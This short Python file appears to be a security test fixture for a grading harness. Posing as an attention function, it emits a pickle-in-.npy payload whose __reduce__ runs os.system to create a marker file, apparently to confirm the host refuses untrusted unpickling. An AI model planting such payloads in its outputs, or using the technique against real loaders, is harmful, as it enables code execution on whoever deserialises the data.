# status: bad-output
# host-absent: /tmp/pwned-pickle-npy
import io
import os
import pickle
import struct

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-pickle-npy",))


def attention(Q, K, V, mask=None):
    # A hand-made object-dtype .npy holding a pickle, written as a well-framed OUTPUT frame.
    buf = io.BytesIO()
    np.save(buf, np.array([Payload()], dtype=object), allow_pickle=True)
    payload = buf.getvalue()
    os.write(3, struct.pack("<cI", b"O", len(payload)) + payload)
    os._exit(0)
